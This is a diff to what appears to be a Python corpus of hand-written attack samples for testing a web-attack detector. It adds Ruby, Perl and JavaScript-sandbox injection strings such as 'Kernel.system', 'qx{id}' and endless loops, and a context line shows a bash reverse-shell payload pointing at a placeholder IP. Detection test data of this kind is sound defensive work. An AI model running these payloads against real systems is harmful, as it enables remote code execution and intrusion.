@@ -1,5 +1,5 @@
 """Hand-written examples of the attack families the development corpus lacks (PHP injection, Java,
-Node.js / prototype pollution, SSRF, remote file inclusion) plus extra shell-injection shapes, and
+Node.js / prototype pollution, SSRF, remote file inclusion, Ruby / Perl) plus extra shell-injection shapes, and
 realistic benign requests that carry the same words (code in prose, URLs in JSON fields, OAuth tokens).
 
 Written for this repository from general knowledge of each family (no payload list or ruleset test was
@@ -165,7 +165,22 @@ RCE = [
     ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
 ]
 
-FAMILIES = {"php": PHP, "java": JAVA, "nodejs": NODE, "ssrf": SSRF, "rfi": RFI, "rce": RCE}
+# other interpreters behind an API: Ruby, Perl, and a JavaScript sandbox handed an endless loop
+INTERPRETERS = [
+    "Kernel.system('cat /etc/hostname')",
+    "IO.popen('uname -a').read",
+    "User.class_eval('def x; `id`; end')",
+    "[].send(:eval, 'exit')",
+    "%x(ls /)",
+    "qx{id}",
+    "open(my $fh, '|-', 'id')",
+    "use Socket; socket(S, PF_INET, SOCK_STREAM, 6)",
+    "while(true){}",
+    "for(;;){ fetch('/') }",
+]
+
+FAMILIES = {"php": PHP, "java": JAVA, "nodejs": NODE, "ssrf": SSRF, "rfi": RFI, "rce": RCE,
+            "interpreters": INTERPRETERS}
 URL_PARAMS = {"ssrf": ["url", "callback", "webhook"], "rfi": ["page", "file", "template"]}
 
 
